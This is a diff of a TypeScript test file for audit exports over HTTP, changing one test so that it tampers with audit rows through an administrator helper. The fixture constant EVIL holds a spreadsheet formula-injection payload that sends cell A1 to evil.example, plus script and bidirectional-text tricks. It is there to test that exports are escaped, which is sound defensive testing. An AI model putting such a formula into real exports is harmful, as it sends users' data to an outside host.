@@ -5,6 +5,7 @@ import { sampleProposals } from '../../src/backends/sample-reviews.js';
 import { type Policy, type Proposal, type Review, sawOf } from '../../src/core.js';
 import { calculates, readAs, readCsv } from '../audit/export.fixtures.js';
 import { type accept, openReusable, signIn, startTestHost, type Visitor } from './host.fixtures.js';
+import { asAdministrator } from './log.fixtures.js';
 
 const EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Open")<script>alert(1)</script>\u202e"; =1+1';
 
@@ -112,10 +113,12 @@ describe('exports over HTTP', () => {
 
   it('has none of a case that was a check, and does not say so', async () => {
     // As a host that slips in checks marks them; here afterwards, which takes whoever owns the database.
-    await database.query('alter table audit_entries disable trigger user');
-    await database.query(
-      `update audit_entries set body = jsonb_set(body::jsonb, '{exposure,seeded}', 'true')::json where review_id = $1 and type = 'overridden'`,
-      [hostile.id],
+    await asAdministrator(database, (tx) =>
+      tx.query(
+        `update audit_lines set line = jsonb_set(line::jsonb, '{exposure,seeded}', 'true')::text
+         where review_id = $1 and line::jsonb->>'type' = 'overridden'`,
+        [hostile.id],
+      ),
     );
     const answer = await people.amara.request(`${path}/explanation`);
     expect(answer.status).toBe(409);
